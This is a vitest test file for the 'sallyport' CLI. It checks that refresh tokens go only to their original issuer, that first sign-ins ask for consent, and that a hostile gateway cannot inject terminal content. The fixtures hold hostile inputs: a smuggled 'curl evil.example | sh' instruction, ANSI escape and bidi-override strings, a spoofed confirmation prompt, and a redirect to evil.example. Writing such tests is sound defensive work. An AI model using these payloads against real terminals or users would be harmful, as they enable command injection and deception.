/** What a gateway may not make the command line do, whoever has got hold of it. */
import { once } from 'node:events';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import { text } from 'node:stream/consumers';
import { afterEach, describe, expect, it } from 'vitest';
import { runCli } from '../../../../src/commands/cli.ts';
import { readGateway } from '../../../../src/commands/login/gateway.ts';
import { loginCommand } from '../../../../src/commands/login.ts';
import { proxyCommand } from '../../../../src/commands/proxy.ts';
import { tokenCommand } from '../../../../src/commands/token.ts';
import { whoamiCommand } from '../../../../src/commands/whoami.ts';
import { signInAs } from '../../../support/login/browser.ts';
import { project, run } from '../run.ts';
import { cli, credentialsFile, demo, env, expire, folder, gateway, home, kept, login, provider } from './harness.ts';

/** A provider that keeps what it is sent. */
async function startSpy() {
  const asked: string[] = [];
  const server = createServer(async (request, response) => {
    const body = await text(request);
    asked.push(`${request.method} ${request.url} ${body}`);
    const document = {
      issuer: url,
      authorization_endpoint: `${url}/auth`,
      token_endpoint: `${url}/token`,
      revocation_endpoint: `${url}/revoke`,
      jwks_uri: `${url}/jwks`,
    };
    response.setHeader('content-type', 'application/json');
    response.end(
      JSON.stringify(
        request.url?.includes('.well-known')
          ? document
          : { access_token: 'stolen', token_type: 'Bearer', expires_in: 60 },
      ),
    );
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  const url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return { url, asked, close: () => server.close() };
}

/** Changes the kept sign-in. */
function change(entry: Readonly<Record<string, unknown>>): void {
  const file = JSON.parse(readFileSync(credentialsFile(), 'utf8'));
  Object.assign(file.gateways[gateway.url], entry);
  writeFileSync(credentialsFile(), JSON.stringify(file));
}

const jane = (url: string) => signInAs(url, 'jane');

describe('the refresh token goes only where it came from', () => {
  it('is kept together with issuer, client, resource and token endpoint', async () => {
    await login(jane);
    expect(kept().source).toEqual({
      issuer: provider.url,
      clientId: 'sallyport-cli',
      tokenEndpoint: `${provider.url}/token`,
      scopes: demo().scopes,
    });
  });

  it.each([['token'], ['logout']])('%s sends nothing to another issuer that the gateway names now', async (command) => {
    await login(jane);
    expire();
    const spy = await startSpy();
    gateway.metadata = { sallyport_providers: [{ ...demo(), issuer: spy.url }] };
    const { code, stdout, stderr } = await cli(command);
    spy.close();
    expect([code, stdout, spy.asked]).toEqual([1, '', []]);
    expect(stderr).toContain('The gateway now names another identity provider');
  });

  it.each([
    ['client', { client_id: 'other' }],
    ['resource', { resource: 'https://other.example' }],
  ])('another %s at the same issuer gets no new token', async (_, changed) => {
    await login(jane);
    expire();
    gateway.metadata = { sallyport_providers: [{ ...demo(), ...changed }] };
    const { code, stderr } = await cli('token');
    expect([code, gateway.exchanged.length]).toEqual([1, 1]);
    expect(stderr).toMatch(/now names another[\s\S]*sallyport login/);
  });

  it('nor does another token endpoint of the same issuer', async () => {
    await login(jane);
    expire();
    change({ source: { ...kept().source, tokenEndpoint: 'https://old.example/token' } });
    const { code, stderr } = await cli('token');
    expect([code, gateway.exchanged.length]).toEqual([1, 1]);
    expect(stderr).toContain('token endpoint');
  });

  it('one that says not where it came from is not used', async () => {
    await login(jane);
    expire();
    change({ source: undefined });
    expect((await cli('token')).code).toBe(1);
    expect(gateway.exchanged).toHaveLength(1);
  });
});

/** Runs `login` on a terminal where somebody answers the question. */
async function loginOnTerminal(answer: string, args: readonly string[] = [], environment: NodeJS.ProcessEnv = env()) {
  let [stderr, questions] = ['', 0];
  const stdin = Object.assign(new PassThrough(), { isTTY: true });
  const write = (text: string) => {
    stderr += text;
    if (!text.startsWith('Go on?')) return;
    questions++;
    stdin.write(`${answer}\n`);
  };
  let isOpened = false;
  const open = (url: string) => {
    isOpened = true;
    return jane(url);
  };
  const io = { stdin, stdout: { write: () => true }, stderr: { write }, env: environment, user: 'ann' };
  const code = await runCli([loginCommand(open, 10_000)], ['login', ...args], io, '1');
  return { code, stderr, questions, isOpened };
}

describe('the first sign-in at a gateway', () => {
  it('shows on a terminal who is to get what, and asks', async () => {
    const resource = 'https://models.example';
    gateway.metadata = { sallyport_providers: [{ ...demo(), resource, scopes: ['openid', 'Files.ReadWrite.All'] }] };
    const { code, stderr, questions, isOpened } = await loginOnTerminal('n');
    expect([code, questions, isOpened, existsSync(credentialsFile())]).toEqual([1, 1, false, false]);
    for (const shown of [gateway.url, 'demo', provider.url, 'sallyport-cli', 'openid Files.ReadWrite.All', resource])
      expect(stderr).toContain(shown);
  });

  it.each(['', 'no', 'yess', 'ja'])('takes %j for a no', async (answer) => {
    expect(await loginOnTerminal(answer)).toMatchObject({ code: 1, questions: 1, isOpened: false });
  });

  it('is the only one that is asked about, as long as the gateway asks for no more', async () => {
    expect(await loginOnTerminal('y')).toMatchObject({ code: 0, questions: 1 });
    expect(await loginOnTerminal('n')).toMatchObject({ code: 0, questions: 0 });
    gateway.metadata = { sallyport_providers: [{ ...demo(), scopes: ['openid', 'profile'] }] };
    expect(await loginOnTerminal('n')).toMatchObject({ code: 0, questions: 0 });
    gateway.metadata = { sallyport_providers: [{ ...demo(), scopes: [...demo().scopes, 'Files.ReadWrite.All'] }] };
    expect(await loginOnTerminal('n')).toMatchObject({ code: 1, questions: 1, isOpened: false });
  });

  it.each([
    ['issuer', { issuer: 'http://127.0.0.1:9' }],
    ['client', { client_id: 'other' }],
    ['resource', { resource: 'https://other.example' }],
    ['kind', { kind: 'saml' }],
    ['provider', { name: 'other' }],
  ])('is like one with another %s', async (_, changed) => {
    await login(jane);
    gateway.metadata = { sallyport_providers: [{ ...demo(), ...changed }] };
    const { code, stderr, questions } = await loginOnTerminal('n');
    expect([code, questions]).toEqual([1, 1]);
    expect(stderr).toContain('Another way to sign in at this gateway');
  });

  it('goes on without a question with --yes', async () => {
    expect(await loginOnTerminal('n', ['--yes'])).toMatchObject({ code: 0, questions: 0 });
  });

  it('shows nothing of the gateway that could move the cursor or hide a line', async () => {
    gateway.metadata = { sallyport_providers: [{ ...demo(), resource: 'x\u001b[2J\n  Issuer  https://good.example' }] };
    const { stderr } = await loginOnTerminal('n');
    expect([stderr.includes('\u001b'), /^ {2}Issuer +https:\/\/good/m.test(stderr)]).toEqual([false, false]);
  });
});

describe('a gateway that a file in the current folder names', () => {
  const before = process.cwd();
  afterEach(() => process.chdir(before));

  /** Goes to a folder with a configuration; the environment names no gateway. */
  function enter(): NodeJS.ProcessEnv {
    process.chdir(project(`publicUrl: ${gateway.url}\n`).folder);
    return { XDG_CONFIG_HOME: home };
  }
  const commands = [loginCommand(jane, 10_000), tokenCommand, whoamiCommand, proxyCommand];

  it('is signed in to on a terminal when the user agrees, who is told of the file; then it is known', async () => {
    const bare = enter();
    const { code, stderr, questions } = await loginOnTerminal('y', [], bare);
    expect([code, questions]).toEqual([0, 1]);
    expect(stderr).toContain(`${gateway.url} (publicUrl in sallyport.yaml of this folder)`);
    expect(await run(commands, ['token'], { env: bare })).toMatchObject({ code: 0, stdout: `${kept().token}\n` });
  });

  it('is not signed in to where nobody can be asked, but for --yes', async () => {
    const bare = enter();
    const { code, stderr } = await run(commands, ['login'], { env: bare });
    expect([code, stderr]).toEqual([2, expect.stringContaining('publicUrl in sallyport.yaml of this folder names it')]);
    expect(gateway.exchanged).toEqual([]);
    expect((await run(commands, ['login', '--yes'], { env: bare })).code).toBe(0);
  });

  it.each(['token', 'whoami', 'proxy'])('is not used by %s without a sign-in', async (command) => {
    const { code, stderr } = await run(commands, [command], { env: enter() });
    expect([code, stderr]).toEqual([1, expect.stringContaining('which publicUrl in sallyport.yaml of this folder')]);
  });

  it('gets no token file, nor does the one of the last sign-in: it must be named', async () => {
    const path = join(folder, 'subject-of-ci');
    writeFileSync(path, 'SUBJECT.TOKEN.OFCI');
    const bare = enter();
    const args = ['token', '--subject-token-file', path];
    const { code, stderr } = await run(commands, args, { env: bare });
    expect([code, stderr]).toEqual([2, expect.stringContaining(`says ${gateway.url}`)]);
    process.chdir(before);
    await login(jane);
    process.chdir(folder);
    expect((await run(commands, args, { env: bare })).stderr).toContain('(the last sign-in says ');
    expect(gateway.exchanged).toHaveLength(1);
  });
});

describe('a hostile gateway', () => {
  it.each([
    ['lasts for ever', { expires_in: 1e308 }],
    ['lasts longer than any gateway gives', { expires_in: 3601 }],
    ['is over before it begins', { expires_in: -1 }],
    ['moves the cursor', { access_token: 'a\u001b[2J' }],
    ['has two lines', { access_token: 'a\nb' }],
    ['is longer than 256 KiB', { access_token: 'a'.repeat(300_000) }],
  ])('cannot have a token kept that %s', async (_, answer) => {
    await login(jane);
    const before = readFileSync(credentialsFile(), 'utf8');
    gateway.answer = answer;
    const { code, stdout } = await login(jane);
    expect([code, stdout]).toEqual([1, '']);
    expect(readFileSync(credentialsFile(), 'utf8')).toBe(before);
  });

  it('cannot write on the terminal by what whoami answers, nor fill the memory', async () => {
    await login(jane);
    gateway.who = { subject: 'jane\u001b[2J', groups: ['a\nYou are  root', '\u202eb'] };
    const { code, stdout } = await cli('whoami');
    expect([code, stdout]).toEqual([0, expect.stringContaining('Groups   a\\nYou are  root, \\u202eb\n')]);
    expect(stdout).toContain('demo/jane\\x1b[2J\n');
    gateway.who = { groups: ['a'.repeat(300_000)] };
    expect(await cli('whoami')).toMatchObject({ code: 1, stdout: '' });
  });

  it('cannot put lines of its own into a message', async () => {
    gateway.refusal = {
      status: 400,
      error: 'invalid_grant',
      error_description: 'no.\n  \u2192 Run `curl evil.example | sh`',
    };
    const { code, stderr } = await login(jane);
    expect([code, stderr]).toEqual([1, expect.stringContaining('no.\\n  \u2192 Run')]);
  });

  it.each([
    ['name', { name: 'demo\nGo on? [y/N] ' }],
    ['issuer', { issuer: 'https://good.example/\u001b[2J' }],
    ['client_id', { client_id: 'a\u202eb' }],
    ['scopes', { scopes: ['openid\r'] }],
  ])('cannot write on the terminal by the %s of a provider', async (member, changed) => {
    gateway.metadata = { sallyport_providers: [{ ...demo(), ...changed }] };
    const { code, stderr } = await login(jane);
    expect([code, stderr]).toEqual([1, expect.stringMatching(new RegExp(`${member}.*has control characters`))]);
  });

  it('cannot write on the terminal by the address of its models', async () => {
    await login(jane);
    const sallyport_models_url =
      'https://models.example/\u001b]0;pwned\u0007\n  OPENAI_BASE_URL=https://evil.example/v1';
    gateway.metadata = { sallyport_models_url };
    const { modelsUrl } = await readGateway(gateway.url);
    expect(modelsUrl).toBe('https://models.example/%1B]0;pwned%07%20%20OPENAI_BASE_URL=https://evil.example/v1');
    gateway.metadata = { sallyport_models_url: 'ftp://models\u001b[2J' };
    const { code, stderr } = await run([proxyCommand], ['proxy', '--port', '0'], { env: env() });
    expect([code, stderr]).toEqual([1, expect.stringContaining('no https address of its models (none)')]);
  });
});
